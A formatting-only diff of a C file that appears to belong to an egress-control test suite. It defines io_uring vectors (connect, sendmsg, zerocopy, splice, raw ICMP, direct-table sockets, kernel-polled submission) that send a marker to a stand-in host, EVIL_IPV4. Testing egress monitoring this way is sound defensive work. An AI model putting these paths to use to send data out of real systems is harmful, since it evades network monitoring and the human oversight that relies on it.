@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: MIT
-/* io_uring, by bare system calls: what is sent is sent by the process, by a thread of the kernel or by a polling one. */
+/* io_uring, by bare system calls: what is sent is sent by the process, by a thread of the kernel or by a polling one.
+ */
 #include "egress.h"
 
 #include <errno.h>
@@ -23,8 +24,8 @@ struct ring {
 
 static struct ring open_ring(unsigned int flags)
 {
-	struct io_uring_params given = { .flags = flags, .sq_thread_idle = 1000 };
-	struct ring ring = { .polled = flags & IORING_SETUP_SQPOLL };
+	struct io_uring_params given = {.flags = flags, .sq_thread_idle = 1000};
+	struct ring ring = {.polled = flags & IORING_SETUP_SQPOLL};
 	size_t submit_size, complete_size;
 	char *submit, *complete;
 
@@ -34,7 +35,8 @@ static struct ring open_ring(unsigned int flags)
 	step("io_uring_setup", ring.fd);
 	submit_size = given.sq_off.array + given.sq_entries * sizeof(unsigned int);
 	complete_size = given.cq_off.cqes + given.cq_entries * sizeof(struct io_uring_cqe);
-	submit = mmap(NULL, submit_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_SQ_RING);
+	submit =
+		mmap(NULL, submit_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_SQ_RING);
 	complete = mmap(NULL, complete_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd,
 			IORING_OFF_CQ_RING);
 	ring.submissions = mmap(NULL, given.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
@@ -121,7 +123,7 @@ static void message_by(unsigned int ring_flags, unsigned char flags, unsigned ch
 {
 	struct ring ring = open_ring(ring_flags);
 	struct sockaddr_in destination = ipv4(address);
-	struct iovec payload = { self.marker, strlen(self.marker) };
+	struct iovec payload = {self.marker, strlen(self.marker)};
 	struct msghdr message = {
 		.msg_name = &destination,
 		.msg_namelen = sizeof(destination),
@@ -238,7 +240,7 @@ static void again_by(unsigned int ring_flags, unsigned char flags)
 {
 	struct ring ring = open_ring(ring_flags);
 	struct sockaddr_in destination = ipv4(EVIL_IPV4);
-	struct iovec payload = { self.marker, strlen(self.marker) };
+	struct iovec payload = {self.marker, strlen(self.marker)};
 	struct msghdr message = {
 		.msg_name = &destination,
 		.msg_namelen = sizeof(destination),
@@ -294,18 +296,19 @@ static void uring_socket_raw(int)
 	struct ring ring = open_ring(0);
 	struct sockaddr_in destination = ipv4(EVIL_IPV4);
 	int fd = socket_by(&ring, AF_INET, SOCK_RAW, IPPROTO_ICMP);
-	unsigned char packet[64] = { 8 };
+	unsigned char packet[64] = {8};
 
 	memcpy(packet + 8, self.marker, strlen(self.marker));
 	destination.sin_port = 0;
-	step("sendto", sendto(fd, packet, 8 + strlen(self.marker), 0, (struct sockaddr *)&destination, sizeof(destination)));
+	step("sendto",
+	     sendto(fd, packet, 8 + strlen(self.marker), 0, (struct sockaddr *)&destination, sizeof(destination)));
 }
 
 /* A socket without a descriptor: it only has a place in the ring's own table. */
 static void uring_socket_direct(int)
 {
 	struct ring ring = open_ring(0);
-	int table[1] = { -1 };
+	int table[1] = {-1};
 	struct sockaddr_in destination = ipv4(EVIL_IPV4);
 	struct io_uring_sqe open = {
 		.opcode = IORING_OP_SOCKET,
@@ -327,22 +330,22 @@ static void uring_socket_direct(int)
 }
 
 const struct vector uring_vectors[] = {
-	{ "uring_connect", uring_connect },
-	{ "uring_connect_async", uring_connect_async },
-	{ "uring_connect_polled", uring_connect_polled },
-	{ "uring_sendmsg", uring_sendmsg },
-	{ "uring_sendmsg_ok", uring_sendmsg_ok },
-	{ "uring_sendmsg_async", uring_sendmsg_async },
-	{ "uring_sendmsg_polled", uring_sendmsg_polled },
-	{ "uring_sendmsg_zerocopy", uring_sendmsg_zerocopy },
-	{ "uring_send_zerocopy", uring_send_zerocopy },
-	{ "uring_send", uring_send, connected },
-	{ "uring_write", uring_write, connected },
-	{ "uring_splice", uring_splice, connected },
-	{ "uring_again", uring_again },
-	{ "uring_again_async", uring_again_async },
-	{ "uring_again_polled", uring_again_polled },
-	{ "uring_socket_raw", uring_socket_raw },
-	{ "uring_socket_direct", uring_socket_direct },
+	{"uring_connect", uring_connect},
+	{"uring_connect_async", uring_connect_async},
+	{"uring_connect_polled", uring_connect_polled},
+	{"uring_sendmsg", uring_sendmsg},
+	{"uring_sendmsg_ok", uring_sendmsg_ok},
+	{"uring_sendmsg_async", uring_sendmsg_async},
+	{"uring_sendmsg_polled", uring_sendmsg_polled},
+	{"uring_sendmsg_zerocopy", uring_sendmsg_zerocopy},
+	{"uring_send_zerocopy", uring_send_zerocopy},
+	{"uring_send", uring_send, connected},
+	{"uring_write", uring_write, connected},
+	{"uring_splice", uring_splice, connected},
+	{"uring_again", uring_again},
+	{"uring_again_async", uring_again_async},
+	{"uring_again_polled", uring_again_polled},
+	{"uring_socket_raw", uring_socket_raw},
+	{"uring_socket_direct", uring_socket_direct},
 	{},
 };
